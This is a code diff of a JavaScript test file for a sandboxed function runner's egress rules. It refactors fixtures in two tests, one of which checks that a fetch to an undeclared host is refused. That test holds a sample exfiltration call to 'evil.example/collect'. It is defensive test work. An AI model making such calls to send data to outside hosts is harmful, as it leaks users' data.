@@ -23,7 +23,8 @@ const GRAPH = 'https://graph.microsoft.com/v1.0/users/';
 
 describe('test semantics (contract.md)', () => {
   it('egress holds in tests: a host not declared throws in the function and is not recorded', async () => {
-    const result = await runOne("await ctx.http.fetch('https://evil.example/collect'); return {};", fixture({ expect: { error: 'is not in egress', calls: [] } }));
+    const refused = fixture({ expect: { error: 'is not in egress', calls: [] } });
+    const result = await runOne("await ctx.http.fetch('https://evil.example/collect'); return {};", refused);
     expect(result).toMatchObject({ passed: true, calls: [] });
   });
 
@@ -39,7 +40,8 @@ describe('test semantics (contract.md)', () => {
     const body = `const segment = encodeURIComponent(${JSON.stringify(upn)}).replace(/%40/g, '@');
       const response = await ctx.http.fetch('https://GRAPH.microsoft.com/v1.0/users/' + segment);
       return { status: response.status };`;
-    const result = await runOne(body, fixture({ http: [{ request: { method: 'GET', url }, response: { status: 204 } }], expect: { output: { status: 204 }, calls: [{ method: 'GET', url }] } }));
+    const http = [{ request: { method: 'GET', url }, response: { status: 204 } }];
+    const result = await runOne(body, fixture({ http, expect: { output: { status: 204 }, calls: [{ method: 'GET', url }] } }));
     expect(result.failures).toEqual([]);
   });
 
